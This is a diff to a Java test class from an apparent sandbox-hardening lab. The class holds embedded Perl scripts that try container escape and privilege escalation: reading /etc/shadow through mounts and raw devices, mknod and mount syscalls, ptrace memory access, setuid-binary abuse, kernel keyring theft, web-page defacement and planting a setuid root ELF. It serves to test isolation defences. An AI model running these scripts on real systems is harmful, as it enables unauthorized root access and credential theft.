@@ -1,159 +1,180 @@
 package onekernel.labs.hardening;
 
 /**
- * What the robber tries, for the shop's own shell: a busybox and a Perl are at hand. Before each
- * way stands its name; whatever succeeded is put back, so that an attack may be repeated.
+ * What the robber tries, for a Perl in the shop that has {@code way}, {@code done} and {@code show}.
+ * Before each way stands its name; whatever succeeded is put back, so that an attack may be
+ * repeated.
  */
 final class Attacks {
   /** Printed where an attack got at something that has no words of its own. */
   static final String DONE = "DONE NONCE";
 
+  /**
+   * Calls {@code $see} for each file of the shop, apart from where {@code %apart} leads. The shop's
+   * Perl has no modules, and so no {@code glob}.
+   */
+  private static final String WALK =
+      """
+      sub files { opendir FOLDER, $_[0] or return; map "$_[0]/$_", grep !/^[.]/, readdir FOLDER }
+      my %apart = ("/proc", 1, "/sys", 1);
+      sub walk {
+        my ($at, $see) = @_;
+        opendir my $folder, $at or return;
+        for my $name (readdir $folder) {
+          next if $name eq "." or $name eq "..";
+          my $file = $at eq "/" ? "/$name" : "$at/$name";
+          next if $apart{$file} or not lstat $file or -l _;
+          -d _ ? walk($file, $see) : $see->($file);
+        }
+      }
+      """;
+
   private Attacks() {}
 
-  /** Reads the superblock's magic number off the VM's disk; {@code NUMBERS} is its device. */
-  static String onTheDisk(String numbers) {
+  /** Reads the superblock's magic number off the VM's disk; {@code numbers} are its device's. */
+  private static String onTheDisk(String numbers) {
     return """
-    reads() { perl -e 'open D, "<", shift and seek D, 1080, 0 and read D, $m, 2; exit !($m eq "\\x53\\xef")' "$1"; }
-    skip=
-    echo '#through the files of vm, which are mounted in there'
-    while read -r id parent device root at rest; do
-      [ $at != / ] && [ -f $at/etc/shadow ] || continue
-      skip="$skip -o -path $at"
-      { read -r line <$at/etc/shadow; } 2>/dev/null && echo DONE NONCE
-    done </proc/self/mountinfo
-    echo '#by reading the device'
-    find / \\( -path /proc -o -path /sys $skip \\) -prune -o -type b -print 2>/dev/null |
-      while read -r disk; do reads $disk && echo DONE NONCE; done
-    echo '#by making the device anew, with mknod'
-    for folder in /tmp /dev /run /orders; do
-      mknod $folder/NONCE b NUMBERS || continue
-      reads $folder/NONCE && echo DONE NONCE
-      rm -f $folder/NONCE
-      break
-    done
-    echo '#by mounting it'
-    mount -t ext4 /dev/vda /mnt && echo DONE NONCE && umount /mnt
-    echo '#through the memory of a process outside (SYS_PTRACE)'
-    for root in /proc/[0-9]*/root; do
-      [ -f $root/etc/shadow ] && { true <>${root%root}mem; } && echo DONE NONCE && break
-    done 2>/dev/null
-    true\
+    my ($major, $minor) = (NUMBERS);
+    my ($disk, $kind, $at) = ("/dev/vda", "ext4", "/mnt");
+    sub magic {
+      my $two = "";
+      sysopen DEVICE, $_[0], 0 and seek DEVICE, 1080, 0 and read DEVICE, $two, 2;
+      done if $two eq "\\x53\\xef";
+    }
+    way "through the files of vm, which are mounted in there";
+    open my $mounts, "<", "/proc/self/mountinfo";
+    for (<$mounts>) {
+      my $point = (split)[4];
+      next unless $point ne "/" and -f "$point/etc/shadow";
+      $apart{$point} = 1;
+      open SHADOW, "<", "$point/etc/shadow" and <SHADOW> and done;
+    }
+    my (@disks, @climbing);
+    walk "/", sub { -b _ ? push @disks, $_[0] : -u _ && -f _ && push @climbing, $_[0] };
+    way "by reading the device";
+    magic $_ for @disks;
+    way "by making the device anew, with mknod";
+    for my $folder ("/tmp", "/dev", "/run", "/orders") {
+      my $device = "$folder/NONCE";
+      syscall(133, $device, 0060600, $major << 8 | $minor) == 0 or next;
+      magic $device;
+      unlink $device;
+      last;
+    }
+    way "by mounting it";
+    syscall(165, $disk, $at, $kind, 0, 0) == 0 and done(), syscall(166, $at, 0);
+    way "through the memory of a process outside (SYS_PTRACE)";
+    for (files("/proc")) {
+      /\\d$/ and -f "$_/root/etc/shadow" and open MEMORY, "+<", "$_/mem" and done(), last;
+    }
     """
-        .replace("NUMBERS", numbers.replace(':', ' '));
+        .replace("NUMBERS", numbers.replace(':', ','));
   }
 
   /** Reads the accountant's ledger. */
-  static String onTheLedger() {
-    return """
-    it=/orders/ledger
-    was=$(stat -c '%u:%g %a' $it)
-    echo '#although the mode forbids it (DAC_OVERRIDE)'
-    cat $it
-    echo '#by changing its mode (FOWNER)'
-    chmod 644 $it && { cat $it; chmod ${was#* } $it; }
-    echo '#by taking it over (CHOWN)'
-    chown 0 $it && { cat $it; chown ${was% *} $it; }
-    perl -e '
-      sub look { open L, "<", "/orders/ledger" and print <L> }
-      print "#by taking off what is mounted over it (SYS_ADMIN)\\n"; $it = "/orders/ledger";
-      syscall(272, 1 << 17) == 0 and syscall(166, $it, 2) == 0 and look; # unshare, umount
-      print "#by becoming user 4321 (SETUID)\\n";
-      $( = $) = 4321; $< = $> = 4321; look'
-    FIND | while read -r program; do
-      echo "#through $program, which makes a root of everybody"
-      $program -e '
-        sub look { open L, "<", "/orders/ledger" and print <L> }
-        look; $< = $>; $< = $> = 4321; look'
-    done
-    true\
-    """
-        .replace("FIND", SET_USER_ID);
+  private static final String ON_THE_LEDGER =
+      """
+      my $it = "/orders/ledger";
+      my ($mode, $owner) = (stat $it)[2, 4];
+      way "although the mode forbids it (DAC_OVERRIDE)";
+      show $it;
+      way "by changing its mode (FOWNER)";
+      chmod 0644, $it and show($it), chmod $mode & 07777, $it;
+      way "by taking it over (CHOWN)";
+      chown 0, -1, $it and show($it), chown $owner, -1, $it;
+      for my $program (@climbing) {
+        way "through $program, which makes a root of everybody";
+        system $program, "-e", q{
+          sub look { open L, "<", "/orders/ledger" and print <L> }
+          look; $< = $>; $< = $> = 4321; look};
+      }
+      way "by taking off what is mounted over it (SYS_ADMIN)";
+      syscall(272, 1 << 17) == 0 and syscall(166, $it, 2) == 0 and show $it; # unshare, umount
+      way "by becoming user 4321 (SETUID)";
+      $( = $) = 4321; $< = $> = 4321; show $it;
+      """;
+
+  /** The disk first, because whoever goes for the ledger becomes somebody else. */
+  static String byRoot(String numbers) {
+    return WALK + onTheDisk(numbers) + ON_THE_LEDGER;
   }
 
   /** In the VM: whose the ledger is, and what it says. */
   static final String LEDGER_AFTERMATH =
       """
-      stat -c %u /srv/shop/orders/ledger
-      cat /srv/shop/orders/ledger\
+      print((stat("/srv/shop/orders/ledger"))[4], "\\n");
+      open(LEDGER, "<", "/srv/shop/orders/ledger") and print(<LEDGER>);
       """;
 
-  /** Becomes root in the shop, or at least reads root's file. */
-  static String climbing() {
-    return """
-    echo '#by reading it'
-    cat /safe
-    FIND | while read -r program; do
-      echo "#through $program"
-      $program -e 'print "ROOT NONCE\\n" unless $>; open S, "<", "/safe" and print <S>'
-    done
-    true\
-    """
-        .replace("FIND", PROGRAMS);
-  }
-
-  private static final String FILES =
-      "find / \\( -path /proc -o -path /sys $skip \\) -prune -o -type f ";
-
-  private static final String SET_USER_ID = FILES + "-perm -4000 -print 2>/dev/null";
-
-  /** Those that read a file when told so in Perl: a power may be written onto any of them. */
-  private static final String PROGRAMS =
-      FILES + "-perm -1 -size +99k ! -name '*.so.*' ! -name busybox -print 2>/dev/null";
-
-  /** Changes the page, the programs or anything else that the shop is made of. */
-  static String leavingSomething() {
-    return """
-    PATH=/bin:/usr/bin
-    add() { echo "#$1: $2"; { true >>$2; } 2>/dev/null && echo DONE NONCE; }
-    put() { echo "#$1: $2"; { true >$2 && rm $2; } 2>/dev/null && echo DONE NONCE; }
-    all() {
-      for file in /www/index.html /www/cgi-bin/order /bin/shop; do add "$1" $file; done
-      for folder in /www /www/cgi-bin /bin /etc; do put "$1" $folder/NONCE; done
-    }
-    all 'by writing'
-    modes() { stat -c '%a %n' /www /www/* /www/cgi-bin/*; }
-    before=$(modes)
-    chmod u+w /www /www/* /www/cgi-bin/*
-    if [ "$before" != "$(modes)" ]; then
-      all 'after a chmod'
-      echo "$before" | while read -r mode file; do chmod $mode $file; done
-    fi
-    cp /www/index.html /www/NONCE && echo '#by putting another page in its place' &&
-      mv -f /www/NONCE /www/index.html && echo DONE NONCE
-    mount -o remount,rw / && all 'after a remount'
-    FIND | while read -r program; do
-      echo "#through $program: /www/index.html"
-      $program -e '
-        sub add { open F, ">>", "/www/index.html" and print "DONE NONCE\\n" }
-        add; $ENV{PATH} = "/bin"; $< = $>; system "mount", "-o", "remount,rw", "/";
-        print "#through $ARGV[0], after a remount\\n"; add' $program
-    done
-    true\
-    """
-        .replace("FIND", SET_USER_ID);
+  /**
+   * Becomes root in the shop, or at least reads root's file, through any program that does in Perl
+   * what it is told: a power may be written onto each. Then changes the page, the programs, or
+   * anything else that the shop is made of.
+   */
+  static String byUser() {
+    return WALK
+        + """
+        $ENV{PATH} = "/bin:/usr/bin";
+        my (@programs, @climbing);
+        walk "/", sub {
+          -f _ or return;
+          push @climbing, $_[0] if -u _;
+          push @programs, $_[0] if (stat _)[2] & 1 and -s _ > 99 << 10 and $_[0] !~ m{[.]so[.][^/]*$|/busybox$};
+        };
+        way "by reading it";
+        show "/safe";
+        for my $program (@programs) {
+          way "through $program";
+          system $program, "-e", q{print "ROOT NONCE\\n" unless $>; open S, "<", "/safe" and print <S>};
+        }
+        sub add { way "$_[0]: $_[1]"; open FILE, ">>", $_[1] and done }
+        sub put { way "$_[0]: $_[1]"; open FILE, ">", $_[1] and unlink $_[1] and done }
+        sub all {
+          add $_[0], $_ for "/www/index.html", "/www/cgi-bin/order", "/bin/shop";
+          put $_[0], "$_/NONCE" for "/www", "/www/cgi-bin", "/bin", "/etc";
+        }
+        all "by writing";
+        my %mode = map { $_ => (stat)[2] & 07777 } "/www", files("/www"), files("/www/cgi-bin");
+        my @changed = grep { ! -l and chmod $mode{$_} | 0200, $_ and (stat)[2] & 07777 ^ $mode{$_} } keys %mode;
+        all "after a chmod" if @changed;
+        chmod $mode{$_}, $_ for @changed;
+        if (open OLD, "<", "/www/index.html" and open NEW, ">", "/www/NONCE") {
+          print NEW <OLD>;
+          close NEW;
+          way "by putting another page in its place";
+          rename "/www/NONCE", "/www/index.html" and done;
+        }
+        my ($none, $root) = ("none", "/");
+        syscall(165, $none, $root, $none, 32, 0) == 0 and all "after a remount";
+        for my $program (@climbing) {
+          way "through $program: /www/index.html";
+          system $program, "-e", q{
+            sub add { open F, ">>", "/www/index.html" and print "DONE NONCE\\n" }
+            add; $ENV{PATH} = "/bin"; $< = $>; system "mount", "-o", "remount,rw", "/";
+            print "#through $ARGV[0], after a remount\\n"; add}, $program;
+        }
+        """;
   }
 
   /** Reads the key of this name off the kernel's ring of root, and puts another one there. */
   static String onTheKeys(String name) {
     return """
-    echo '#by reading it'
-    perl -e '
-      sub key { syscall 250, @_ }
-      $kind = "user"; $name = "NAME"; $value = " " x 99;
-      key(8, -4, -3);
-      $id = key(10, -4, $kind, $name, 0);
-      $id = syscall 249, $kind, $name, 0, -4 if $id < 0;
-      if ($id < 0 and open K, "<", "/proc/keys") { /^(\\w+) .* user +$name: / and $id = hex $1 for <K> }
-      $length = $id < 0 ? -1 : key(11, $id, $value, 99);
-      print substr($value, 0, $length), "\\n" if $length > 0;
-      $nothing = "";
-      $id > 0 and key(2, $id, $nothing, 0) < 0 and $! == 22 and print "#by writing over it\\nDONE NONCE\\n";
-      $gift = "gift-NONCE"; $value = "gift";
-      syscall 248, $kind, $gift, $value, length $value, -4;
-    '
-    echo '#by a call that was refused'
-    perl -e 'for (333, 425) { syscall $_, 0, 0, 0, 0, 0, 0; $! == 1 or $! == 38 or print "DONE NONCE\\n" }'
-    true\
+    my ($kind, $name, $value, $nothing) = ("user", "NAME", " " x 99, "");
+    sub key { syscall 250, @_ }
+    way "by reading it";
+    key(8, -4, -3);
+    my $id = key(10, -4, $kind, $name, 0);
+    $id = syscall 249, $kind, $name, 0, -4 if $id < 0;
+    if ($id < 0 and open KEYS, "<", "/proc/keys") {
+      /^(\\w+) .* user +$name: / and $id = hex $1 for <KEYS>;
+    }
+    my $length = $id < 0 ? -1 : key(11, $id, $value, 99);
+    print substr($value, 0, $length), "\\n" if $length > 0;
+    $id > 0 and key(2, $id, $nothing, 0) < 0 and $! == 22 and way("by writing over it"), done();
+    my ($gift, $words) = ("gift-NONCE", "gift");
+    syscall 248, $kind, $gift, $words, length $words, -4;
+    way "by a call that was refused";
+    for (333, 425) { syscall $_, 0, 0, 0, 0, 0, 0; $! == 1 or $! == 38 or done }
     """
         .replace("NAME", name);
   }
@@ -161,14 +182,10 @@ final class Attacks {
   /** In the VM: whether this key is still on root's ring, and the robber's, which is taken off. */
   static String keysAftermath(String name) {
     return """
-    perl -e '
-      $kind = "user"; $safe = "NAME"; $gift = "gift-NONCE";
-      print "safe " if syscall(250, 10, -4, $kind, $safe, 0) >= 0;
-      $id = syscall 250, 10, -4, $kind, $gift, 0;
-      exit if $id < 0;
-      print "gift";
-      syscall 250, 9, $id, -4;
-    '\
+    my ($kind, $safe, $gift) = ("user", "NAME", "gift-NONCE");
+    print("safe ") if syscall(250, 10, -4, $kind, $safe, 0) >= 0;
+    my $id = syscall(250, 10, -4, $kind, $gift, 0);
+    $id < 0 or print("gift"), syscall(250, 9, $id, -4);
     """
         .replace("NAME", name);
   }
@@ -176,71 +193,95 @@ final class Attacks {
   /**
    * Reads what is root's and the accountant's, also as whoever inside is one of them outside, and
    * leaves a program that makes its owner of whoever starts it.
+   *
+   * <p>The gift is as small as a program can be; it ends with 0 where root runs it: {@code
+   * geteuid}, {@code exit}.
    */
   static String asRoot() {
     return """
-    echo "#id $(id -u)"
-    cat /orders/key /orders/ledger
-    perl -e '
-      open M, "<", "/proc/self/uid_map";
-      for (<M>) {
-        ($in, $out, $count) = split;
-        for $who (0, 4321) {
-          $is = $in + $who - $out;
-          next if $who < $out or $who >= $out + $count or $is == 0;
-          next if fork and wait;
-          $( = $) = $is; $< = $> = $is;
-          for ("/orders/key", "/orders/ledger") {
-            open F, "<", $_ and print <F>;
-          }
-          exit;
-        }
+    way "id $>";
+    show "/orders/key"; show "/orders/ledger";
+    open my $map, "<", "/proc/self/uid_map";
+    for (<$map>) {
+      my ($in, $out, $count) = split;
+      for my $who (0, 4321) {
+        my $is = $in + $who - $out;
+        next if $who < $out or $who >= $out + $count or $is == 0;
+        next if fork and wait;
+        $( = $) = $is; $< = $> = $is;
+        show "/orders/key"; show "/orders/ledger";
+        exit;
       }
-    '
-    cp /bin/perl /orders/gift-NONCE && chmod 4755 /orders/gift-NONCE
-    true\
+    }
+    my $code = pack "H*", "b86b0000000f0585c0400f95c7b83c0000000f05";
+    my ($at, $size) = (0x400000, 120 + length $code);
+    if (open my $gift, ">", "/orders/gift-NONCE") {
+      print $gift "\\x7fELF", pack("C4 x8 S2 L Q3 L S6", 2, 1, 1, 0, 2, 62, 1, $at + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0),
+          pack("L2 Q6", 1, 5, 0, $at, $at, $size, $size, 4096), $code;
+      close $gift;
+      chmod 04755, "/orders/gift-NONCE";
+    }
     """;
   }
 
   /**
    * In the VM: who owns the gift, or else who the shop's process is, the names that VM has for user
-   * and group, and who is whoever starts the gift.
+   * and group, and whether who starts the gift is root.
    */
   static final String GIFT_AFTERMATH =
       """
-      gift=/srv/shop/orders/gift-NONCE
-      owner=$(stat -c '%u %g' $gift) || {
-        pid=$(ss -Hltnp "sport = :$port" | sed -n 's/.*pid=\\([0-9]*\\).*/\\1/p')
-        owner=$(echo $(sed -n 's/^[UG]id:[^0-9]*\\([0-9]*\\).*/\\1/p' /proc/$pid/status))
+      my $gift = "/srv/shop/orders/gift-NONCE";
+      my ($user, $group) = (stat($gift))[4, 5];
+      my $left = defined($user);
+      unless ($left) {
+        my $door = sprintf(":%04X", $port);
+        my %waits;
+        for my $table ("/proc/net/tcp", "/proc/net/tcp6") {
+          open(SOCKETS, "<", $table) or next;
+          /$door \\S+ 0A / and $waits{"socket:[" . (split)[9] . "]"} = 1 for <SOCKETS>;
+        }
+        my ($its) = grep { $waits{readlink($_) // ""} } glob("/proc/[0-9]*/fd/*");
+        $its and $its =~ s/fd.*/status/ and open(STATUS, "<", $its) or exit;
+        /^([UG])id:\\s+(\\d+)/ and ($1 eq "U" ? $user : $group) = $2 for <STATUS>;
       }
-      name=$(getent passwd ${owner% *})
-      echo "owner ${owner% *} ${name%%:*}"
-      name=$(getent group ${owner#* })
-      echo "group ${owner#* } ${name%%:*}"
-      [ -e $gift ] || exit 0
-      echo "starts $(/usr/bin/setpriv --reuid 65534 --regid 65534 --clear-groups $gift -e 'print $>')"
-      rm -f $gift\
+      print("owner $user ", getpwuid($user) // "", "\\ngroup $group ", getgrgid($group) // "", "\\n");
+      exit unless $left;
+      my $somebody = fork();
+      unless ($somebody) {
+        $) = "65534 65534"; $( = 65534; $< = $> = 65534;
+        exec($gift) or exit(127);
+      }
+      waitpid($somebody, 0);
+      print("starts root\\n") if $? == 0;
+      unlink($gift);
       """;
 
   /** Reads all three tills. */
   static String onTheMarket() {
     return """
-    for till in shop/till baker/till bank; do
-      echo "#$till"
-      cat /market/$till
-    done
-    true\
+    for ("shop/till", "baker/till", "bank") {
+      way $_;
+      show "/market/$_" or print "$!\\n";
+    }
     """;
   }
 
   /** In the VM: SELinux's mode, what it wrote down of this visit, and the labels of the tills. */
   static final String MARKET_AFTERMATH =
       """
-      read -r mode </sys/fs/selinux/enforce
-      echo "mode $mode"
-      cd /srv/market
-      labels=$(/usr/bin/stat -c 'label %C' shop/till baker/till bank) && echo "$labels" ||
-        for till in shop/till baker/till bank; do echo "label $(/usr/bin/stat -c %C $till)"; done
-      dmesg | sed -n '/robber NONCE/,$ { /avc:/p }'\
+      open(MODE, "<", "/sys/fs/selinux/enforce") and print("mode ", <MODE>, "\\n");
+      my $kind = "security.selinux";
+      for my $till ("shop/till", "baker/till", "bank") {
+        my ($file, $label) = ("/srv/market/$till", " " x 255);
+        my $length = syscall(191, $file, $kind, $label, 255); # getxattr
+        print("label ", $length > 0 ? substr($label, 0, $length) =~ tr/\\0//dr : "?", "\\n");
+      }
+      my $ring = " " x 65536;
+      my $length = syscall(103, 3, $ring, 65536); # syslog: the kernel's last messages
+      my $since;
+      for (split(/\\n/, substr($ring, 0, $length))) {
+        $since ||= /robber NONCE/;
+        print("$_\\n") if $since and /avc:/;
+      }
       """;
 }
